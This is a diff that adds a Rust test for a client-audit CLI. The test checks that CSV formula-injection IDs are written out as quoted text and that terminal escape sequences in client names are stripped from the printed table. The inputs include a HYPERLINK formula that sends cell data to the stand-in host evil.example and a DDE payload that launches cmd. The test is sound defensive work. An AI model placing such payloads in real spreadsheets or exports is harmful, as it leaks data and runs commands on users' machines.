@@ -259,6 +259,66 @@ fn scores_rows_with_commas_or_quotes_in_an_id_are_quoted_as_csv() {
 }
 
 #[test]
+fn ids_a_spreadsheet_would_run_are_written_as_text_and_names_cannot_drive_the_terminal() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut rows =
+        String::from("client_id,occurred_at,service_category,status,amount,client_name\n");
+    for (id, name) in [
+        (
+            "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"",
+            "\"Eve \x1b]0;pwned\x07\x1b[31mRED\x1b[0m \u{9b}31m\"",
+        ),
+        ("+cmd|' /C calc'!A0", "Mal"),
+        ("@SUM(1+1)", "At"),
+        ("-2+3", "Minus"),
+        ("c-ok", "Ok"),
+    ] {
+        for day in [
+            "2026-01-05",
+            "2026-02-02",
+            "2026-03-02",
+            "2026-03-30",
+            "2026-04-27",
+        ] {
+            rows.push_str(&format!("{id},{day},hair,completed,45,{name}\n"));
+        }
+    }
+    let export = write(dir.path(), "inject.csv", rows.as_bytes());
+    let scores = dir.path().join("scores.csv");
+    let output = winback(&[
+        "audit",
+        export.to_str().unwrap(),
+        "--as-of",
+        "2026-06-15",
+        "--scores",
+        scores.to_str().unwrap(),
+    ]);
+    assert!(output.status.success(), "{}", stderr(&output));
+    let mut ids: Vec<String> = csv::Reader::from_path(&scores)
+        .unwrap()
+        .records()
+        .map(|r| r.unwrap()[0].to_owned())
+        .collect();
+    ids.sort();
+    assert_eq!(
+        ids,
+        [
+            "'+cmd|' /C calc'!A0",
+            "'-2+3",
+            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+            "'@SUM(1+1)",
+            "c-ok"
+        ]
+    );
+    let table = stdout(&output);
+    assert!(table.contains("Eve"), "{table}");
+    assert!(
+        !table.contains('\u{1b}') && !table.contains('\u{7}') && !table.contains('\u{9b}'),
+        "{table:?}"
+    );
+}
+
+#[test]
 fn a_client_is_explained_per_category() {
     let dir = tempfile::tempdir().unwrap();
     let file = write(
